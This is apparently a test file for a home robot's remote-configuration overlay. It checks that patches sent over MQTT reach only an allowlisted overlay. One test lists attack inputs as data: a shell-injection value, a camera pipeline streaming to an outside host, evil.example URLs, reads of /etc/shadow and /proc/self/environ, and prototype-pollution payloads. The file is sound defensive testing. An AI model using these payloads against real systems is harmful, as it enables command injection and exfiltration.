import { existsSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import fc from 'fast-check';
import t from 'tap';
import { loadConfigFile, patchRemoteConfig } from '../../src/config/load.js';
import { leaves, PATCH_MAX_KEYS, REMOTE_EDITABLE, remoteRefusal } from '../../src/config/overlay.js';
import { configSchema } from '../../src/config/schema.js';

function setup(owner: string) {
  const dir = mkdtempSync(path.join(tmpdir(), 'emobot-overlay-'));
  const file = path.join(dir, 'config.yaml');
  writeFileSync(file, owner);
  return { dir, file, overlay: path.join(dir, 'state', 'remote-config.yaml') };
}

/** The issues a refused patch names (a patch that is accepted fails the test). */
function refusal(file: string, overlay: string, patch: Record<string, unknown>): { key: string; message: string }[] {
  try {
    patchRemoteConfig(file, overlay, patch);
  } catch (err) {
    return (err as { issues: { key: string; message: string }[] }).issues;
  }
  throw new Error(`accepted: ${JSON.stringify(patch)}`);
}

t.test('a remote change goes to the overlay, never into the owner\'s file, and wins over it', async (t) => {
  const owner = '# my robot\nexpression:\n  pose_hold_ms: 1000 # short\n';
  const { dir, file, overlay } = setup(owner);
  const loaded = patchRemoteConfig(file, overlay, { expression: { pose_hold_ms: 4000, poses: { wave: { head_pan: 20 } } } });
  t.equal(loaded.config.expression.pose_hold_ms, 4000);
  t.same(loaded.config.expression.poses.wave, { head_pan: 20 });
  t.same(loaded.overlaid?.sort(), ['expression.pose_hold_ms', 'expression.poses.wave.head_pan']);
  t.equal(readFileSync(file, 'utf8'), owner, 'the owner\'s file is untouched');
  t.same(readdirSync(path.dirname(overlay)), ['remote-config.yaml'], 'no temporary file left behind');
  const reloaded = loadConfigFile(file, overlay);
  t.equal(reloaded.config.expression.pose_hold_ms, 4000, 'kept across a restart');
  t.ok(reloaded.fromFile?.includes('expression.pose_hold_ms'));
  // A second change keeps the first.
  t.equal(patchRemoteConfig(file, overlay, { voice: { llm: { temperature: 0.2 } } }).config.expression.pose_hold_ms, 4000);
  t.equal(readFileSync(overlay, 'utf8').match(/Made by remote control/g)?.length, 1, 'one header, however many changes');
  t.ok(existsSync(dir));
});

t.test('keys that name devices, files, URLs, pipelines, modules or permissions are refused, and nothing is written', async (t) => {
  const { file, overlay } = setup('');
  const attacks: Record<string, unknown>[] = [
    { voice: { speaker: 'file:FILE="|touch /tmp/x"' } },
    { voice: { microphone: 'default' } },
    { voice: { openai_base_url: 'https://evil.example/v1' } },
    { voice: { elevenlabs_base_url: 'https://evil.example' } },
    { voice: { mode: 'cloud' } },
    { voice: { listen: { enabled: true } } },
    { camera: { source: 'v4l2src ! tee name=t ! appsink t. ! tcpclientsink host=1.2.3.4' } },
    { vision: { model: '/proc/self/environ' } },
    { expression: { hardware: '/proc/self/environ' } },
    { expression: { calibration: '/etc/shadow' } },
    { expression: { port: '/dev/mem' } },
    { remote: { mqtt: { url: 'mqtt://evil.example' } } },
    { remote: { mqtt: { tls: { reject_unauthorized: false } } } },
    { remote: { mqtt: { snapshot: true } } },
    { remote: { mqtt: { conversation: true } } },
    { remote: { mqtt: { commands: false } } },
    { remote: { editable: ['voice.*'] } },
    // JSON.parse makes `__proto__` an own key, as a payload from MQTT has it (an object literal would not).
    JSON.parse('{"expression":{"poses":{"__proto__":{"polluted":1}}}}') as Record<string, unknown>,
    JSON.parse('{"__proto__":{"polluted":1}}') as Record<string, unknown>,
    { constructor: { prototype: { polluted: 1 } } },
    { runtime: { allowed_folders: ['/'] } },
    { robot: { name: 'Mallory' } },
    { log: { level: 'fatal' } },
  ];
  for (const patch of attacks) {
    t.throws(() => patchRemoteConfig(file, overlay, patch), { name: 'ConfigError' }, JSON.stringify(patch));
  }
  t.notOk(existsSync(overlay), 'no overlay written');
  t.equal(({} as Record<string, unknown>).polluted, undefined, 'no prototype reached');
  const [issue] = refusal(file, overlay, { voice: { speaker: 'hw:1,0' } });
  t.match(issue, { key: 'voice.speaker', message: /config file only, over SSH/ });
});

t.test('an allowed key with a wrong value names the key; the overlay keeps what it had', async (t) => {
  const { file, overlay } = setup('');
  patchRemoteConfig(file, overlay, { voice: { llm: { temperature: 0.3 } } });
  const before = readFileSync(overlay, 'utf8');
  const issues = (patch: Record<string, unknown>) => refusal(file, overlay, patch);
  t.match(issues({ voice: { llm: { temperature: 'hot' } } }), [{ key: 'voice.llm.temperature' }]);
  t.match(issues({ expression: { reactions: { happy: { colour: 'red' } } } }), [{ key: 'expression.reactions.happy.colour', message: 'unknown key' }]);
  t.equal(readFileSync(overlay, 'utf8'), before);
});

t.test('the owner widens the list in the file only; remote settings and allowed folders never become remote', async (t) => {
  const owner = configSchema.parse({ remote: { editable: ['voice.tts.voice_id', 'remote.mqtt.snapshot', 'runtime.*'] } });
  t.match(remoteRefusal(['runtime', 'allowed_folders'], 1, owner), /cannot change its own permissions/);
  t.equal(remoteRefusal(['runtime', 'shutdown_timeout_ms'], 1, owner), undefined);
  t.equal(remoteRefusal(['voice', 'tts', 'voice_id'], 1, owner), undefined);
  t.match(remoteRefusal(['voice', 'tts', 'voice_id'], 1, configSchema.parse({})), /config file only/);
  t.match(remoteRefusal(['remote', 'mqtt', 'snapshot'], 1, owner), /config file only/);
  t.equal(remoteRefusal(['expression', 'poses', 'wave', 'ears'], 1, owner), undefined, 'a prefix pattern covers the keys below it');
  t.match(remoteRefusal(['runtime', 'allowed_folders', '0'], 1, owner), /cannot change its own permissions/, 'nor a key below a never-remote one');
  t.match(remoteRefusal(['remote'], 1, owner), /cannot change its own permissions/, 'nor the section itself');
});

t.test('what the robot is connected to never becomes remote, even inside a section the owner widened', async (t) => {
  const owner = configSchema.parse({ remote: { editable: ['voice.*', 'camera.*', 'vision.*', 'expression.*'] } });
  for (const key of ['voice.openai_base_url', 'voice.elevenlabs_base_url', 'voice.microphone', 'voice.speaker', 'camera.source', 'vision.detection.detector', 'expression.board', 'vision.model', 'expression.hardware', 'expression.port', 'expression.calibration']) {
    t.match(remoteRefusal(key.split('.'), 1, owner), /cannot change what the robot is connected to/, key);
  }
  t.equal(remoteRefusal(['voice', 'tts', 'voice_id'], 1, owner), undefined, 'the rest of the widened sections stays remote');
  t.equal(remoteRefusal(['camera', 'fps'], 1, owner), undefined);
});

t.test('a widened section cannot be set as a whole, which would put its never-remote keys back to their defaults', async (t) => {
  const { file, overlay } = setup('remote:\n  editable: [voice, runtime]\nvoice:\n  mode: cloud\n  openai_base_url: http://10.0.0.5:8000/v1\nruntime:\n  allowed_folders: [/srv/emobot]\n');
  for (const patch of [{ voice: {} }, { runtime: {} }, { voice: [] }]) {
    t.match(refusal(file, overlay, patch), [{ message: /cannot be set as a whole remotely/ }], JSON.stringify(patch));
  }
  t.notOk(existsSync(overlay), 'nothing written');
  writeFileSync(path.join(path.dirname(file), 'state.yaml'), 'voice: {}\n');
  const loaded = loadConfigFile(file, path.join(path.dirname(file), 'state.yaml'));
  t.equal(loaded.config.voice.openai_base_url, 'http://10.0.0.5:8000/v1', 'an overlay holding the section is left out at load too');
  t.match(loaded.warnings, [/voice left out: .*as a whole/]);
});

t.test('with voice.* handed out, remote control may turn the voice offline but never to the cloud', async (t) => {
  const { file, overlay } = setup('remote:\n  editable: [voice.*]\nvoice:\n  mode: cloud\n');
  t.equal(patchRemoteConfig(file, overlay, { voice: { mode: 'offline' } }).config.voice.mode, 'offline');
  t.equal(loadConfigFile(file, overlay).config.voice.mode, 'offline', 'kept across a restart');
  writeFileSync(file, 'remote:\n  editable: [voice.*]\nvoice:\n  mode: offline\n');
  t.match(refusal(file, overlay, { voice: { mode: 'cloud' } }), [{ key: 'voice.mode', message: /may only turn it to offline/ }]);
  t.match(readFileSync(overlay, 'utf8'), /mode: offline/, 'nothing written');
  writeFileSync(overlay, 'voice:\n  mode: cloud\n');
  const loaded = loadConfigFile(file, overlay);
  t.equal(loaded.config.voice.mode, 'offline', 'an overlay sending the voice to the cloud is left out');
  t.match(loaded.warnings, [/voice\.mode left out/]);
  t.match(remoteRefusal(['voice', 'mode'], 'offline', configSchema.parse({})), /config file only/, 'still only where the owner handed it out');
});

t.test('null drops remote control\'s change at a key, so the owner\'s file decides again: how offline is turned back', async (t) => {
  const { file, overlay } = setup('remote:\n  editable: [voice.*]\nvoice:\n  mode: cloud\n');
  patchRemoteConfig(file, overlay, { voice: { mode: 'offline', llm: { persona: 'a calm robot' } }, expression: { pose_hold_ms: 4000 } });
  const back = patchRemoteConfig(file, overlay, { voice: { mode: null } });
  t.equal(back.config.voice.mode, 'cloud', 'the owner\'s file says cloud');
  t.same([...(back.overlaid ?? [])].sort(), ['expression.pose_hold_ms', 'voice.llm.persona'], 'the other remote changes stay');
  t.notMatch(readFileSync(overlay, 'utf8'), /mode/);
  t.equal(loadConfigFile(file, overlay).config.voice.mode, 'cloud', 'and across a restart');
  const section = patchRemoteConfig(file, overlay, { voice: null });
  t.same(section.overlaid, ['expression.pose_hold_ms'], 'a section drops every remote change below it');
  t.equal(section.config.voice.llm.persona, configSchema.parse({}).voice.llm.persona);
  t.match(refusal(file, overlay, { voice: { mode: 'cloud' } }), [{ key: 'voice.mode', message: /may only turn it to offline/ }], 'setting it is still refused');
  t.match(refusal(file, overlay, { voice: { constructor: null } }), [{ key: 'voice.constructor', message: 'not a config key' }]);
  t.match(refusal(file, overlay, { 'voice.mode': null }), [{ key: 'voice.mode', message: /not a config key \(name a key by its sections/ }], 'a dotted key is not reported done with nothing dropped');
  t.match(refusal(file, overlay, { voice: { no_such_key: null } }), [{ key: 'voice.no_such_key', message: /not a config key/ }]);
  t.equal(patchRemoteConfig(file, overlay, { expression: { poses: { wave: null } } }).config.expression.pose_hold_ms, 4000, 'a pose name the schema takes (a record) may be dropped, though none was added');
  t.equal(patchRemoteConfig(file, overlay, { vision: { model: null } }).config.vision.model, configSchema.parse({}).vision.model, 'a key the overlay cannot hold: nothing to drop, nothing changes');
});

t.test('with voice.* handed out, listening may be turned off and attention required, never the other way', async (t) => {
  const owner = configSchema.parse({ remote: { editable: ['voice.*'] } });
  t.equal(remoteRefusal(['voice', 'listen', 'enabled'], false, owner), undefined);
  t.equal(remoteRefusal(['voice', 'listen', 'require_attention'], true, owner), undefined);
  t.match(remoteRefusal(['voice', 'listen', 'enabled'], true, owner), /may only turn it to false/);
  t.match(remoteRefusal(['voice', 'listen', 'require_attention'], false, owner), /may only turn it to true/, 'every utterance would go to speech-to-text');
  t.match(remoteRefusal(['voice', 'listen', 'require_attention'], 'true', owner), /may only turn it to true/, 'the value itself, not what it reads as');
  t.match(remoteRefusal(['voice', 'listen'], {}, owner), /as a whole/, 'nor the section that holds them');
  t.equal(remoteRefusal(['voice', 'listen', 'end_silence_ms'], 900, owner), undefined, 'the rest of listening stays remote');
});

t.test('with voice.* handed out, attention may be made stricter remotely, never looser than the owner\'s file', async (t) => {
  const owner = configSchema.parse({ remote: { editable: ['voice.*'] }, voice: { listen: { attention_max_yaw_deg: 30, attention_window_ms: 4000 } } });
  t.equal(remoteRefusal(['voice', 'listen', 'attention_max_yaw_deg'], 20, owner), undefined);
  t.equal(remoteRefusal(['voice', 'listen', 'attention_max_yaw_deg'], 30, owner), undefined, 'the owner\'s own value');
  t.match(remoteRefusal(['voice', 'listen', 'attention_max_yaw_deg'], 90, owner), /may only turn it down/, 'a face turned away would count as facing');
  t.match(remoteRefusal(['voice', 'listen', 'attention_window_ms'], 60_000, owner), /may only turn it down/);
  t.match(remoteRefusal(['voice', 'listen', 'attention_window_ms'], '1000', owner), /may only turn it down/, 'a number, not a string');
  t.equal(remoteRefusal(['voice', 'listen', 'attention_window_ms'], 1000, owner), undefined);
});

t.test('an overlay key the owner\'s file no longer allows, or no longer valid, is left out with a warning', async (t) => {
  const { file, overlay } = setup('remote:\n  editable: [voice.tts.voice_id]\n');
  patchRemoteConfig(file, overlay, { voice: { tts: { voice_id: 'abc' } }, expression: { pose_hold_ms: 2000 } });
  writeFileSync(file, '');
  const loaded = loadConfigFile(file, overlay);
  t.equal(loaded.config.voice.tts.voice_id, configSchema.parse({}).voice.tts.voice_id, 'taken back by the owner');
  t.equal(loaded.config.expression.pose_hold_ms, 2000);
  t.match(loaded.warnings, [/voice\.tts\.voice_id left out/]);
  writeFileSync(overlay, 'expression:\n  pose_hold_ms: -1\n');
  const invalid = loadConfigFile(file, overlay);
  t.equal(invalid.config.expression.pose_hold_ms, 3000, 'the owner\'s config is used');
  t.match(invalid.warnings, [/expression\.pose_hold_ms left out: it no longer validates/]);
});

t.test('an overlay the robot cannot read is ignored with a warning that quotes none of it', async (t) => {
  const { file, overlay } = setup('');
  patchRemoteConfig(file, overlay, { expression: { pose_hold_ms: 2000 } });
  // An alias with no anchor is found only when the document is converted, and that error quotes the name.
  writeFileSync(overlay, 'voice:\n  llm:\n    persona: *sk-proj-LEAKLEAK\n');
  const loaded = loadConfigFile(file, overlay);
  t.equal(loaded.config.expression.pose_hold_ms, 3000, 'the owner\'s config is used');
  t.match(loaded.warnings, [/remote overlay ignored: .* alias/]);
  t.notMatch(JSON.stringify(loaded.warnings), /LEAK|sk-proj/);
});

const poses = (count: number, prefix: string) => Object.fromEntries(Array.from({ length: count }, (_, i) => [`${prefix}${i}`, { head_pan: i % 30 }]));
/** An owner's poses section of `count` poses, the required rest and sleep among them. */
const ownerPoses = (count: number) => `expression:\n  poses:\n${['rest', 'sleep', ...Object.keys(poses(count - 2, 'own'))].map((name) => `    ${name}: {head_pan: 1}\n`).join('')}`;

t.test('one remote value an edit of the owner\'s file made invalid is left out alone: the privacy switches turned remotely stay', async (t) => {
  const ownerFile = (count: number) => `remote:\n  editable: [voice.*]\nvoice:\n  mode: cloud\n${ownerPoses(count)}`;
  const { file, overlay } = setup(ownerFile(45));
  patchRemoteConfig(file, overlay, { voice: { mode: 'offline', listen: { enabled: false } }, expression: { poses: poses(5, 'remote') } });
  writeFileSync(file, ownerFile(46)); // now 51 poses with the remote ones: one too many
  const loaded = loadConfigFile(file, overlay);
  t.equal(loaded.config.voice.mode, 'offline', 'the voice stays on the robot');
  t.equal(loaded.config.voice.listen.enabled, false);
  t.equal(Object.keys(loaded.config.expression.poses).length, 46, 'the remote poses are left out, the owner\'s kept');
  t.match(loaded.warnings, [/expression\.poses\.remote0\.head_pan left out: it no longer validates with the config file \(.*50 poses/]);
  // A later change elsewhere is accepted; the stale poses are dropped from the overlay, with a warning.
  const next = patchRemoteConfig(file, overlay, { voice: { llm: { temperature: 0.3 } } });
  t.equal(next.config.voice.llm.temperature, 0.3);
  t.equal(next.config.voice.mode, 'offline');
  t.match(next.warnings, [/expression\.poses\.remote0\.head_pan dropped from the remote changes/]);
  t.notMatch(readFileSync(overlay, 'utf8'), /remote0/);
  t.match(readFileSync(overlay, 'utf8'), /mode: offline/);
});

t.test('a patch whose own value does not fit is refused, and takes no earlier remote change with it', async (t) => {
  const { file, overlay } = setup(ownerPoses(45));
  patchRemoteConfig(file, overlay, { expression: { poses: poses(5, 'remote') } });
  t.match(refusal(file, overlay, { expression: { poses: { one_more: { head_pan: 3 } } } }), [{ key: 'expression.poses', message: /50 poses/ }]);
  t.match(readFileSync(overlay, 'utf8'), /remote4/, 'the five earlier remote poses are kept');
  t.equal(Object.keys(loadConfigFile(file, overlay).config.expression.poses).length, 50);
});

t.test('a patch names at most PATCH_MAX_KEYS keys; the names of keys to drop are checked in one validation', async (t) => {
  const { file, overlay } = setup('');
  const many = Object.fromEntries(Array.from({ length: PATCH_MAX_KEYS + 1 }, (_, i) => [`k${i}`, null]));
  t.match(refusal(file, overlay, { vision: many }), [{ key: '', message: new RegExp(`at most ${PATCH_MAX_KEYS} keys \\(this one ${PATCH_MAX_KEYS + 1}\\)`) }]);
  const unknown = refusal(file, overlay, { vision: { k1: null, threads: null }, voice: { k2: null } });
  t.same(unknown.map((issue) => issue.key).sort(), ['vision.k1', 'voice.k2'], 'each unknown key named, a known one not');
  t.match(refusal(file, overlay, { 'voice.listen': { enabled: null } }), [{ key: 'voice.listen.enabled', message: /not a config key/ }], 'a dotted section above a real key name');
  t.match(refusal(file, overlay, { vision: { bogus: { deeper: null } } }), [{ key: 'vision.bogus.deeper', message: /not a config key/ }], 'below a section the schema does not know');
  t.notOk(existsSync(overlay), 'nothing written');
});

t.test('the robot\'s identity on the broker and its log level are never remote, whatever the owner hands out', async (t) => {
  const owner = configSchema.parse({ remote: { editable: ['robot.*', 'log.*'] } });
  t.match(remoteRefusal(['robot', 'id'], 'kitchen-bot', owner), /cannot change what the robot is connected to/, 'another robot\'s MQTT client id and topics');
  t.match(remoteRefusal(['log', 'level'], 'fatal', owner), /cannot change its own permissions/, 'fatal would hide a sender\'s traces');
  t.equal(remoteRefusal(['robot', 'name'], 'Desk', owner), undefined, 'the rest of robot.* stays remote');
});

t.test('fuzz: random patches over every allowlisted key change only the overlay, and only to valid configs', async (t) => {
  const { file, overlay } = setup('');
  // Every real key below each allowed pattern (leaves of the defaults), so values land where they mean something.
  const defaults = leaves(configSchema.parse({}) as unknown as Record<string, unknown>).map(([key]) => key);
  const keys = defaults.filter((key) => remoteRefusal(key, 1, configSchema.parse({})) === undefined);
  t.ok(REMOTE_EDITABLE.every((pattern) => keys.some((key) => pattern.endsWith('.*') ? key.join('.').startsWith(pattern.slice(0, -1)) : key.join('.') === pattern)), 'every allowed pattern names real keys');
  const value = fc.oneof(fc.integer({ min: -1e6, max: 1e6 }), fc.double(), fc.string({ maxLength: 30 }), fc.boolean(), fc.constant(null), fc.array(fc.string({ maxLength: 5 }), { maxLength: 3 }), fc.dictionary(fc.string({ maxLength: 8 }), fc.integer()));
  const nest = (key: string[], v: unknown): Record<string, unknown> => key.reduceRight<unknown>((inner, part) => ({ [part]: inner }), v) as Record<string, unknown>;
  let accepted = 0;
  fc.assert(
    fc.property(fc.constantFrom(...keys), value, (key, v) => {
      try {
        const loaded = patchRemoteConfig(file, overlay, nest(key, v));
        accepted++;
        t.doesNotThrow(() => configSchema.parse(loaded.config));
      } catch (err) {
        if ((err as Error).name !== 'ConfigError') throw err;
      }
      // Whatever was sent, the overlay on disk still loads to a valid config over the owner's file.
      t.equal(loadConfigFile(file, overlay).warnings?.length, 0);
    }),
    { numRuns: 300, seed: 14 },
  );
  t.ok(accepted > 0, `some random values were valid (${accepted})`);
  t.equal(readFileSync(file, 'utf8'), '', 'the owner\'s file never changed');
});
